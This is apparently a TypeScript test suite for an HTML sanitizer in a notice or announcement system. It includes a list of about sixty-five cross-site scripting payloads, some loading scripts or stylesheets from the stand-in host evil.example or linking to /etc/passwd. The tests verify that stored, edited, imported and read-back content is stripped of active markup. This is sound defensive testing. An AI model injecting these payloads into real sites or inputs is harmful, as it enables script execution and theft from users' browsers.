import fc from 'fast-check'
import { beforeAll, describe, expect, test } from 'vitest'
import { useWorld, type Client } from '#test/harness.ts'
import { cleanContent } from './clean-content.ts'
import { AREA, bell, box, noticeAdmin, result } from './notices.fixture.ts'

/** Markup that would act in a reader's browser, as it is known from the field. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="&#97;lert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<input autofocus onfocus=alert(1)>',
  '<select onfocus=alert(1) autofocus>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="/\t/evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="blob:https://x/1">x</a>',
  '<a href="/x" onclick=alert(1)>x</a>',
  '<a href="https://x.example" style="position:fixed;inset:0">x</a>',
  '<a href="https://x" target="_top" rel="opener">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p class="ant-modal-wrap" id="root">x</p>',
  '<style>@import "//evil.example"; *{display:none}</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '"><img src=x onerror=alert(1)>',
  "';alert(1)//",
  '<p onmouseover="alert(1)">x',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)" colspan="2;x">x',
  '<ol start="1 onclick=alert(1)"><li>x</ol>',
  '<isindex action=javascript:alert(1)>',
  '<keygen autofocus onfocus=alert(1)>',
  '<dialog open oncancel=alert(1)>x</dialog>',
  '<img src=https://evil.example/pixel.gif>',
  '<picture><source srcset="x" onerror=alert(1)></picture>',
]

/**
 * What is left of markup must be tags of the list, with nothing but the attributes they may have.
 */
function harmless(html: string): void {
  expect(html).not.toMatch(
    /<\s*(script|style|svg|math|iframe|object|embed|img|form|input|button|link|meta|base|template|video|audio|details|noscript)\b/i,
  )
  for (const [, attributes = ''] of html.matchAll(/<[a-z][a-z0-9]*((?:\s[^<>]*)?)\s*\/?>/gi)) {
    const rest = attributes
      .replaceAll(
        /\s(href="(\/(?![/\\])|https?:\/\/)[^"\s\\]*"|target="_blank"|rel="noopener noreferrer nofollow"|(colspan|rowspan|start)="\d{1,3}")/gi,
        '',
      )
      .trim()
      .replace(/\/$/, '')
      .trim()
    expect(rest, html).toBe('')
  }
  expect(html.replaceAll(/<\/?[a-z][^<>]*>/gi, ''), html).not.toContain('<')
}

describe('what a user writes', () => {
  test('comes in more than thirty ways that would act', () => {
    expect(new Set(PAYLOADS).size).toBeGreaterThan(50)
  })

  test.each(PAYLOADS)('%s acts no more', async (payload) => {
    const once = await cleanContent(`<p>before</p>${payload}`)
    harmless(once)
    expect(once).toContain('before')
    expect(await cleanContent(once), 'cleaned twice it is the same').toBe(once)
  })

  test('whatever it is put together from', async () => {
    const piece = fc.oneof(
      fc.constantFrom(...PAYLOADS),
      fc.constantFrom(
        '<p>',
        '</p>',
        '<a href="',
        '">',
        '<!--',
        '-->',
        '<',
        '>',
        '"',
        "'",
        '&lt;',
        '&#60;',
        '\0',
        '\u2028',
        '<b',
        ' onclick=',
        '=',
        '/',
        '<svg',
        '<style>',
        '</style>',
        '<textarea>',
      ),
      fc.string({ maxLength: 8 }),
    )
    await fc.assert(
      fc.asyncProperty(fc.array(piece, { maxLength: 8 }), async (pieces) => {
        harmless(await cleanContent(pieces.join('')))
      }),
      { numRuns: 1_000 },
    )
  })

  test('keeps what is only text and form', async () => {
    const good =
      '<h2>Hours</h2><p>From <strong>Monday</strong> <em>on</em> <u>we</u> <s>open</s> <code>8:00</code><br />see <a href="/shipment/b2c?x=1&amp;y=2">orders</a></p><ul><li><p>one</p></li></ul><ol start="3"><li>three</li></ol><blockquote><p>said</p></blockquote><pre><code>x</code></pre><hr /><table><tbody><tr><th colspan="2">a</th></tr><tr><td>b</td><td>c</td></tr></tbody></table>'
    expect(await cleanContent(good)).toBe(good)
    expect(await cleanContent('<p><a href="https://x.example/a">x</a></p>')).toBe(
      '<p><a href="https://x.example/a" target="_blank" rel="noopener noreferrer nofollow">x</a></p>',
    )
    expect(await cleanContent('5 < 6 & 7 > 6')).toBe('5 &lt; 6 &amp; 7 &gt; 6')
    expect(await cleanContent('通知：<b>今天</b>放假')).toBe('通知：<b>今天</b>放假')
    expect(await cleanContent('  ')).toBe('')
  })

  test('is not made slow by depth or length', async () => {
    harmless(await cleanContent('<b>'.repeat(5_000)))
    harmless(await cleanContent('<a href="'.repeat(3_000)))
    harmless(await cleanContent(`${'<blockquote>'.repeat(3_000)}x`))
  })
})

describe('stored', () => {
  const world = useWorld()
  let writer: Client
  let reader: Client
  beforeAll(async () => {
    writer = await world().as('tenantAdmin')
    reader = await world().as('service')
  })

  test('by every way in, it is clean on every way out; plain fields are text', async () => {
    const at = noticeAdmin(world(), writer)
    const evil = PAYLOADS.join('\n')
    const title = '<img src=x onerror=alert(1)>'
    const added = await at.draft({
      titile: title,
      msgContent: evil,
      msgAbstract: title,
      busId: '<b>',
    })
    const edited = result<{ msgContent: string; titile: string }>(
      await writer.put(`${AREA}/edit`, { ...added, msgContent: `<p>start</p>${evil}` }),
    )
    expect(edited.titile).toBe(title)
    const rowOf = async (id: string) =>
      (
        await world().db.pool.query<{ content: string }>(
          'select msg_content as content from sys_announcement where id = $1',
          [id],
        )
      ).rows[0]!.content
    for (const html of [String(added.msgContent), edited.msgContent, await rowOf(added.id)])
      harmless(html)
    await at.release(added.id)
    for (const html of [
      (await bell(reader)).anntMsgList[0]!.msgContent,
      (await box(reader)).records[0]!.msgContent,
      result<{ msgContent: string }>(await reader.get(`${AREA}/queryById`, { id: added.id }))
        .msgContent,
    ]) {
      expect(html).toContain('start')
      harmless(html ?? '')
    }
    const sheet = await writer.upload(
      `${AREA}/importExcel`,
      'x.csv',
      `titile,priority,msgCategory,msgType,msgContent\nImported,H,1,ALL,"<p>in</p>${PAYLOADS[0]}${PAYLOADS[3]!.replaceAll('"', '""')}"\n`,
    )
    expect(sheet.result, JSON.stringify(sheet.result)).toMatchObject({ successCount: 1 })
    const imported = result<{ records: { id: string; sendStatus: string }[] }>(
      await writer.get(`${AREA}/list`, { titile: 'Imported' }),
    ).records[0]!
    expect(imported.sendStatus).toBe('0')
    harmless(await rowOf(imported.id))
    expect(
      await writer.post(`${AREA}/add`, { titile: 'x', msgContent: 'x'.repeat(50_001) }),
    ).toMatchObject({ success: false, code: 400 })
  })
})
